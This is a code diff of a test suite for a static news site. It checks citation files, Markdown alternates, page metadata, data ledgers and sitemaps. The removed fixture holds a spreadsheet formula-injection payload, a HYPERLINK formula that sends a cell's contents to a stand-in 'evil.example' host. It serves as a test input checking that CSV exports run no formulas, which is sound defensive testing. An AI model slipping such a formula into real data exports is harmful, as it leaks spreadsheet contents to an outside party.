@@ -1,5 +1,5 @@
 /** What does a machine get? References, Markdown, JSON-LD, ledgers and lists of pages, through readers written by others. */
-import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { plugins } from '@citation-js/core';
 import '@citation-js/plugin-bibtex';
@@ -13,21 +13,36 @@ import remarkGfm from 'remark-gfm';
 import remarkParse from 'remark-parse';
 import { unified } from 'unified';
 import { visit } from 'unist-util-visit';
-import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
+import { parse } from 'yaml';
+import { describe, expect, test } from 'vitest';
 import { dateModified } from '../src/model/piece-facts.ts';
 import type { CslItem } from '../src/formats/csl-json.ts';
 import { parseRis } from '../src/formats/ris.ts';
 import { pieceFile, pieceSlugs } from '../src/reading/piece-files.ts';
 import { readPiece } from '../src/reading/read-piece.ts';
 import { sourceAddress } from '../src/model/source.ts';
-import { runCli, scratchProject } from './scratch-project.ts';
+import { masthead } from '../src/masthead.ts';
+import { buildDay } from '../src/model/date.ts';
+import type { Manuscript } from '../src/model/manuscript.ts';
+import { isPublished } from '../src/model/visibility.ts';
+import { builtSite } from './built-site.ts';
+import { FORMULA } from './fixtures/odd-pieces.ts';
 
-const site = inject('site');
-const origin = 'https://movingfrontier.example';
-const pieces = pieceSlugs(join(site, '..')).map((slug) =>
-  readPiece(pieceFile(join(site, '..'), slug)),
-);
-const flagship = 'happyhorse-1-1';
+const site = await builtSite('own');
+const origin = masthead.url;
+const root = join(site, '..');
+const today = buildDay(process.env.SOURCE_DATE_EPOCH, new Date());
+const pieces = pieceSlugs(root)
+  .map((slug) => readPiece(pieceFile(root, slug)))
+  .filter(({ piece }) => isPublished(piece, today));
+const [example] = pieces;
+if (!example) throw new Error('No piece is published');
+const authors = parse(readFileSync(join(root, 'content/authors.yml'), 'utf8')) as Record<
+  string,
+  { name: string }
+>;
+const namesOf = ({ piece }: Manuscript) => piece.authors.map((id) => authors[id]?.name ?? '');
+const dist = await builtSite('odd');
 const read = (path: string, folder = site) => readFileSync(join(folder, path), 'utf8');
 const pageOf = (path: string, folder = site) =>
   new JSDOM(read(path === '/' ? 'index.html' : `${path}index.html`, folder)).window.document;
@@ -39,8 +54,8 @@ function lands(address: string, folder = site): boolean {
   const file = join(folder, path.endsWith('/') ? `${path}index.html` : path);
   if (!existsSync(file)) return false;
   if (hash === '') return true;
-  const { document } = new JSDOM(readFileSync(file, 'utf8')).window;
-  return document.getElementById(decodeURIComponent(hash.slice(1))) !== null;
+  const ids = readFileSync(file, 'utf8').matchAll(/\sid="([^"]*)"/g);
+  return ids.some(([, id]) => id === decodeURIComponent(hash.slice(1)));
 }
 
 describe('references', () => {
@@ -87,14 +102,15 @@ describe('references', () => {
   test.each(['json', 'bib', 'ris'])(
     'citation-js reads every piece from citation.%s with title, authors, date and address',
     (format) => {
-      for (const { slug, piece } of pieces) {
+      for (const manuscript of pieces) {
+        const { slug, piece } = manuscript;
         const text = read(`analysis/${slug}/citation.${format}`);
         // Its tables for RIS know neither author nor day of a newspaper’s article; our reader completes them.
         const items = format === 'ris' ? parseRis(text).items : (readers[format]?.(text) ?? []);
         expect(items.map(essence)).toEqual([
           {
             title: piece.title,
-            authors: ['Moving Frontier staff'],
+            authors: namesOf(manuscript),
             date: [piece.datePublished.slice(0, 10).split('-').map(Number)],
             address: `${origin}/analysis/${slug}/`,
           },
@@ -104,7 +120,7 @@ describe('references', () => {
   );
 
   test('the page of a piece leads to its references, its sources as data, its Markdown and one of its sentences', () => {
-    const path = `/analysis/${flagship}/`;
+    const path = `/analysis/${example.slug}/`;
     const page = pageOf(path);
     const links = [...page.querySelectorAll('main a')].map(
       (link) => link.getAttribute('href') ?? '',
@@ -112,7 +128,7 @@ describe('references', () => {
     const expected = ['citation', 'sources'].flatMap((name) =>
       ['json', 'bib', 'ris'].map((format) => `${path}${name}.${format}`),
     );
-    expect(links).toEqual(expect.arrayContaining([...expected, `/analysis/${flagship}.md`]));
+    expect(links).toEqual(expect.arrayContaining([...expected, `/analysis/${example.slug}.md`]));
     const sentence =
       page.querySelector('[aria-labelledby="how-to-cite"] a[href^="#s-"]')?.textContent ?? '';
     expect(sentence).toMatch(/\/#s-[0-9a-f]{8}$/);
@@ -186,9 +202,9 @@ describe('Markdown', () => {
   });
 
   test('the page of a piece names it as an alternate', () => {
-    const link = pageOf(`/analysis/${flagship}/`).querySelector('link[type="text/markdown"]');
+    const link = pageOf(`/analysis/${example.slug}/`).querySelector('link[type="text/markdown"]');
     expect(link?.getAttribute('rel')).toBe('alternate');
-    expect(link?.getAttribute('href')).toBe(`/analysis/${flagship}.md`);
+    expect(link?.getAttribute('href')).toBe(`/analysis/${example.slug}.md`);
   });
 });
 
@@ -228,17 +244,15 @@ describe('what stands in the head of a page', () => {
   });
 
   test('Highwire tags say title, author, date, newspaper and address, and Zotero the type of the item', () => {
-    const page = pageOf(`/analysis/${flagship}/`);
+    const page = pageOf(`/analysis/${example.slug}/`);
     const content = (name: string) =>
       page.querySelector(`head > meta[name="${name}"]`)?.getAttribute('content');
-    expect(content('citation_title')).toBe(
-      pieces.find(({ slug }) => slug === flagship)?.piece.title,
-    );
-    expect(content('citation_author')).toBe('Moving Frontier staff');
+    expect(content('citation_title')).toBe(example.piece.title);
+    expect(content('citation_author')).toBe(namesOf(example)[0]);
     expect(content('citation_publication_date')).toMatch(/^\d{4}\/\d{2}\/\d{2}$/);
-    expect(content('citation_journal_title')).toBe('Moving Frontier');
-    expect(content('citation_public_url')).toBe(`${origin}/analysis/${flagship}/`);
-    expect(content('citation_language')).toBe('en');
+    expect(content('citation_journal_title')).toBe(masthead.name);
+    expect(content('citation_public_url')).toBe(`${origin}/analysis/${example.slug}/`);
+    expect(content('citation_language')).toBe(example.piece.lang ?? masthead.language);
     expect(content('z:itemType')).toBe('newspaperArticle');
   });
 });
@@ -362,10 +376,14 @@ describe('ledgers as data', () => {
       const anchors = Map.groupBy(addresses, (address) => address.split('#')[0] ?? '');
       for (const [page, ofPage] of anchors) {
         const path = decodeURI(new URL(page).pathname);
-        const document = pageOf(path);
+        const ids = new Set(
+          read(`${path}index.html`)
+            .matchAll(/\sid="([^"]*)"/g)
+            .map(([, id]) => id),
+        );
         const missing = ofPage.filter((address) => {
           const hash = decodeURIComponent(new URL(address).hash.slice(1));
-          return hash !== '' && !document.getElementById(hash);
+          return hash !== '' && !ids.has(hash);
         });
         expect(missing).toEqual([]);
       }
@@ -394,9 +412,11 @@ describe('lists of pages', () => {
 
   test('the sitemap names pages that may be found, each under its own address', () => {
     const addresses = locations('sitemap-0.xml');
-    expect(addresses).toContain(`${origin}/analysis/${flagship}/`);
+    expect(addresses).toContain(`${origin}/analysis/${example.slug}/`);
     const wrong = addresses.filter((address) => {
-      const page = pageOf(decodeURI(new URL(address).pathname));
+      const html = read(`${decodeURI(new URL(address).pathname)}index.html`);
+      // The head says both.
+      const page = new JSDOM(html.slice(0, html.indexOf('</head>'))).window.document;
       return (
         page.querySelector('meta[name="robots"][content*="noindex"]') !== null ||
         page.querySelector('link[rel="canonical"]')?.getAttribute('href') !== decodeURI(address)
@@ -435,55 +455,6 @@ describe('lists of pages', () => {
 });
 
 describe('a piece that makes trouble', () => {
-  const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Error, see")';
-  const quoted = JSON.stringify(FORMULA);
-  let root: string;
-  let dist: string;
-
-  beforeAll(() => {
-    root = scratchProject({
-      画面: `---
-title: ${quoted}
-description: "A piece whose words a spreadsheet would run, under an address outside ASCII."
-authors: [staff]
-datePublished: 2026-11-22T23:30:00-05:00
-topics: [ai-video]
-lang: zh-Hant
-aliases: [/analysis/old-picture/]
-sources:
-  - { id: report, title: ${quoted}, container-title: "@paper", author: [{ literal: "-Anon, \\"A\\"" }], URL: "https://example.org/报告?a=1;b=%22", issued: 2026-06-22, accessed: 2026-11-22, role: reporting, state: { is: corrected, date: 2026-11-23 } }
-caveats: [${quoted}, ${quoted}]
-claims: [{ id: rank, text: ${quoted}, sources: [{ id: report, locator: "'tis\\tp. 3", quote: "+1" }] }, { id: rests, text: It rests., dependsOn: [rank] }]
-forecasts: [{ id: next, statement: ${quoted}, criteria: "=1", resolutionSource: "=2", madeOn: 2026-11-22, resolvesOn: 2027-02-01, probability: 0.5, updates: [{ date: 2026-11-23, probability: 0.6, why: "-1" }] }]
-corrections: [{ id: c1, date: 2026-11-24, kind: correction, was: ${quoted}, now: "-2", why: "'3", severity: material, affects: [rank] }]
----
-
-The model ranks second [@report, p. 3 #rank].
-`,
-      older: `---
-title: "Older news"
-description: "A piece that is no longer news on the day of the build, and has caveats without an id."
-authors: [staff]
-datePublished: 2026-11-01
-topics: [ai-video]
-sources:
-  - { id: report, title: "A report", container-title: A paper, URL: "https://example.org/other", issued: 2026-06-22, accessed: 2026-11-01, role: reporting }
-caveats: []
----
-
-<Aside title="A note">Aside it stands.</Aside>
-
-It was so [@report].
-`,
-    });
-    const { status, output } = runCli(root, 'build', [], { SOURCE_DATE_EPOCH: '1795564800' });
-    if (status !== 0) throw new Error(output);
-    dist = join(root, 'dist');
-  });
-  afterAll(() => {
-    rmSync(root, { recursive: true, force: true });
-  });
-
   test.each(ledgers)(
     '%s keeps its schema, and the CSV gives back every word and runs none',
     (name) => {
